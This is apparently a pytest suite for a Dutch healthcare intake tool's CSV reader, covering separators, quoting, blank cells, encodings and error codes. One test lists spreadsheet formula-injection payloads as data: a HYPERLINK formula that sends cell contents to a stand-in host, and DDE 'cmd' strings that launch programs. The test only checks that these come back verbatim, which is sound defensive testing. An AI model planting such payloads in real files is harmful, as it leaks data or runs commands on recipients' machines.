"""Plain CSV files: separators, headers, quoting, empty cells, and what ends up in FileInfo."""

from __future__ import annotations

import hashlib
from pathlib import Path

import polars as pl
import pytest

from tests.intake.readers.conftest import open_and_read, read_error, read_table, rows
from zorgbroker.intake.readers import Limits, open_upload


def write(tmp_path: Path, data: bytes, name: str = "export.csv") -> Path:
    path = tmp_path / name
    path.write_bytes(data)
    return path


@pytest.mark.parametrize("separator", [";", ",", "\t"])
def test_separator_is_detected_from_the_header(tmp_path: Path, separator: str) -> None:
    text = separator.join(["bsn", "geslacht", "datum"]) + "\n"
    text += separator.join(["123456782", "M", "2024-01-31"]) + "\n"
    upload, frame = open_and_read(write(tmp_path, text.encode()))
    assert upload.tables["main"].header == ["bsn", "geslacht", "datum"]
    assert rows(frame) == [("123456782", "M", "2024-01-31")]


def test_separator_inside_quotes_does_not_count(tmp_path: Path) -> None:
    # Three commas inside quotes, two semicolons outside: the separator is ";".
    data = b'"a,b,c,d";x;y\n1;2;3\n'
    upload, frame = open_and_read(write(tmp_path, data))
    assert upload.tables["main"].header == ["a,b,c,d", "x", "y"]
    assert rows(frame) == [("1", "2", "3")]


def test_every_value_stays_text_exactly_as_written(tmp_path: Path) -> None:
    data = b"agb;getal;datum;code\n01234567;007;31-01-2024;1e5\n"
    _, frame = open_and_read(write(tmp_path, data))
    assert frame.dtypes == [pl.String] * 4
    assert rows(frame) == [("01234567", "007", "31-01-2024", "1e5")]


def test_header_names_are_trimmed_and_lose_a_byte_order_mark(tmp_path: Path) -> None:
    data = "\ufeff bsn ;\tgeslacht\n1;M\n".encode()
    upload, _ = open_and_read(write(tmp_path, data))
    assert upload.tables["main"].header == ["bsn", "geslacht"]
    assert upload.info.encoding == "utf-8-sig"


def test_trailing_empty_header_names_are_dropped_and_inner_ones_named(tmp_path: Path) -> None:
    data = b"a;;c;;\n1;2;3;4;5\n"
    upload, frame = open_and_read(write(tmp_path, data))
    assert upload.tables["main"].header == ["a", "kolom_2", "c"]
    assert rows(frame) == [("1", "2", "3")]


def test_duplicate_column_names_reject_the_file_without_naming_them(tmp_path: Path) -> None:
    error = read_error(write(tmp_path, b"bsn;naam;bsn\n1;2;3\n"))
    assert error.code == "BF-008"
    assert "kolom 1 en kolom 3" in error.message
    assert "bsn" not in error.message


@pytest.mark.parametrize(
    "header",
    [b"CENTRUM_AGB;bsn;centrum_agb ", b"centrum_agb;bsn; Centrum_Agb", b'"Bsn";naam;" bsn "'],
)
def test_names_that_differ_only_in_case_or_spaces_are_bf008(tmp_path: Path, header: bytes) -> None:
    error = read_error(write(tmp_path, header + b"\n1;2;3\n"))
    assert error.code == "BF-008"
    assert "kolom 1 en kolom 3" in error.message
    assert "hoofdletters" in error.message
    assert "agb" not in error.message.lower() and "bsn" not in error.message.lower()


@pytest.mark.parametrize(
    "data",
    [b"", b"\n\n", b"   ", "\ufeff".encode(), b"bsn;naam\n", b"bsn;naam", b"bsn;naam\n;\n \n"],
)
def test_empty_file_or_header_only_is_bf005(tmp_path: Path, data: bytes) -> None:
    assert read_error(write(tmp_path, data)).code == "BF-005"


def test_quoted_fields_keep_separators_newlines_and_doubled_quotes(tmp_path: Path) -> None:
    data = b'a;b;c\n"x;y";"regel 1\nregel 2";"zei ""ja"""\n"";" ";z\n'
    _, frame = open_and_read(write(tmp_path, data))
    assert rows(frame) == [("x;y", "regel 1\nregel 2", 'zei "ja"'), (None, None, "z")]


def test_empty_and_blank_cells_are_null_other_values_keep_their_spaces(tmp_path: Path) -> None:
    data = "a;b;c;d\n;  ;\u00a0\t; x \n".encode()
    _, frame = open_and_read(write(tmp_path, data))
    assert rows(frame) == [(None, None, None, " x ")]


def test_ragged_rows_are_padded_or_cut(tmp_path: Path) -> None:
    data = b"a;b;c\n1\n1;2;3;4;5\n1;2\n"
    _, frame = open_and_read(write(tmp_path, data))
    assert rows(frame) == [("1", None, None), ("1", "2", "3"), ("1", "2", None)]


def test_line_endings_crlf_and_bare_cr(tmp_path: Path) -> None:
    for data in (b"a;b\r\n1;2\r\n3;4\r\n", b"a;b\r1;2\r3;4\r", b"a;b\n1;2\n3;4"):
        _, frame = open_and_read(write(tmp_path, data))
        assert rows(frame) == [("1", "2"), ("3", "4")], data


def test_blank_rows_inside_stay_and_trailing_ones_go(tmp_path: Path) -> None:
    data = b"a;b\n1;2\n\n;\n3;4\n\n;;\n \n"
    _, frame = open_and_read(write(tmp_path, data))
    # Record numbers must match the file, so the blank rows between data stay.
    assert rows(frame) == [("1", "2"), (None, None), (None, None), ("3", "4")]


def test_formula_injection_payloads_come_back_verbatim(tmp_path: Path) -> None:
    payloads = [
        '=HYPERLINK("http://example.invalid/?x="&A1,"klik")',
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3",
        "=1+1",
    ]
    quoted = ['"' + value.replace('"', '""') + '"' for value in payloads]
    data = ("veld\n" + "\n".join(quoted) + "\n").encode()
    _, frame = open_and_read(write(tmp_path, data))
    assert frame["veld"].to_list() == payloads


def test_file_info_names_hashes_and_measures_the_raw_file(tmp_path: Path) -> None:
    data = b"a;b\n1;2\n"
    path = write(tmp_path, data, "upload-123.tmp")
    upload = open_upload(path, display_name="export.csv")
    assert upload.info.name == "export.csv"
    assert upload.info.sha256 == hashlib.sha256(data).hexdigest()
    assert upload.info.bytes == len(data)
    assert upload.info.format == "csv"
    assert upload.info.encoding == "utf-8"


def test_content_decides_the_format_not_the_extension(tmp_path: Path) -> None:
    upload, frame = open_and_read(write(tmp_path, b"a;b\n1;2\n", "export.xlsx"))
    assert upload.info.format == "csv"
    assert rows(frame) == [("1", "2")]


def test_progress_counts_bytes_up_to_the_total(tmp_path: Path) -> None:
    data = b"a;b\n" + b"1;2\n" * 1000
    upload = open_upload(write(tmp_path, data), chunk_bytes=512)
    table = upload.tables["main"]
    assert upload.progress_total == len(data) == table.bytes_total
    seen = []
    for _ in table.batches():
        seen.append(table.bytes_read)
    assert seen == sorted(seen)
    assert table.bytes_read == upload.progress_done == len(data)


def test_batches_respect_batch_rows(tmp_path: Path) -> None:
    data = b"a\n" + b"".join(b"%d\n" % i for i in range(10))
    upload = open_upload(write(tmp_path, data), limits=Limits(batch_rows=3))
    batches = list(upload.tables["main"].batches())
    assert all(batch.height <= 3 for batch in batches)
    assert read_table(upload)["a"].to_list() == [str(i) for i in range(10)]


def test_multi_table_dataset_takes_a_lone_csv_named_like_a_table(tmp_path: Path) -> None:
    path = write(tmp_path, b"id;naam\n1;x\n", "Episodes.csv")
    upload = open_upload(path, tables=["praktijk", "episodes"])
    assert list(upload.tables) == ["episodes"]
    other = write(tmp_path, b"id;naam\n1;x\n", "export.csv")
    error = read_error(other, tables=["praktijk", "episodes"], dataset="nivel-fysio")
    assert error.code == "BF-004"
    assert "nivel-fysio verwacht een ZIP-archief met de tabellen praktijk en episodes" in (
        error.message
    )


def test_a_file_that_cannot_be_opened_is_bf001(tmp_path: Path) -> None:
    error = read_error(tmp_path / "bestaat-niet.csv")
    assert error.code == "BF-001"
    assert error.info is None


def test_a_table_can_be_read_twice(tmp_path: Path) -> None:
    upload = open_upload(write(tmp_path, b"a;b\n1;2\n3;4\n"), chunk_bytes=5)
    first = read_table(upload)
    assert rows(read_table(upload)) == rows(first) == [("1", "2"), ("3", "4")]


def _forty_rows(name_of_row_20: str) -> bytes:
    lines = ["nr;achternaam;plaats"]
    lines += [f"{i};{name_of_row_20 if i == 20 else f'naam{i}'};Utrecht" for i in range(1, 41)]
    return ("\n".join(lines) + "\n").encode()


@pytest.mark.parametrize("name", ['O"Brien', 'O"Brien ', '3" stent', 'a"b"c"'])
def test_a_quote_inside_an_unquoted_field_is_kept_literally(tmp_path: Path, name: str) -> None:
    # As Excel and RFC 4180-tolerant readers (and the browser's reader) do: a quote only opens
    # a quoted field at the start of a field. Before, the rest of the file became one field.
    _, frame = open_and_read(write(tmp_path, _forty_rows(name)))
    assert frame.height == 40
    assert frame["achternaam"][19] == name
    assert frame["nr"].to_list() == [str(i) for i in range(1, 41)]


def test_a_stray_quote_beside_quoted_fields_and_in_windows_1252(tmp_path: Path) -> None:
    data = 'a;b;c\n1;O"Brien;"regel 1\nregel 2"\n2;"x;y";Zoë"s\n3;"zei ""ja""";z\n'
    for encoded in (data.encode(), data.encode("cp1252")):
        _, frame = open_and_read(write(tmp_path, encoded))
        assert rows(frame) == [
            ("1", 'O"Brien', "regel 1\nregel 2"),
            ("2", "x;y", 'Zoë"s'),
            ("3", 'zei "ja"', "z"),
        ]


def test_a_quoted_field_that_never_closes_is_bf001_naming_its_row(tmp_path: Path) -> None:
    data = b'a;b\n1;2\n3;4\n5;"open\n' + b"6;7\n" * 36
    error = read_error(write(tmp_path, data))
    assert error.code == "BF-001"
    assert "rij 3 " in error.message
    assert "aanhalingsteken" in error.message
